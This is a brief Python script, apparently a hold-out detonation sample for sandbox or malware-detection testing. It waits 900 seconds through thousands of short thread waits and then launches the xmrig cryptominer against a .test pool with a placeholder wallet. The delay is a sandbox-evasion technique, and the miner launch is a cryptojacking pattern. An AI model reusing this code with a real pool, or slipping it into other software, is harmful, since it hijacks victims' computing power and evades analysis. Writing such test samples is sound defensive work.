#!/usr/bin/python3
"""Waits 900 s as threading.Event().wait(0.1) 9,000 times in a worker thread that main joins,
then mines (detonate hold-out test sample; harmless, fake wallet, .test pool)."""

import os
import threading
import time

ROUNDS = 9000
POOL = "stratum+tcp://pool.loop.test:3333"
WALLET = "4gFQq7j6mGoN4BVFcUaKyRnGd8WaNeP4akE6cZXCGD8DVQPRvaf8Wmhx7NUY2zNq4ft41UhEt2JMeDANLfk6c6mjf7Z9sS8"  # noqa: E501

stop = threading.Event()  # never set: each wait times out


def countdown() -> None:
    for _ in range(ROUNDS):
        if stop.wait(0.1):
            return


print(f"waiting 900 s in {ROUNDS} Event.wait(0.1) rounds in a thread", flush=True)
started = time.monotonic()
worker = threading.Thread(target=countdown)
worker.start()
worker.join()
print(f"waited {time.monotonic() - started:.1f} s; starting the miner", flush=True)
os.execv("/usr/local/bin/xmrig", ["xmrig", "-o", POOL, "-u", WALLET, "--shares", "1"])
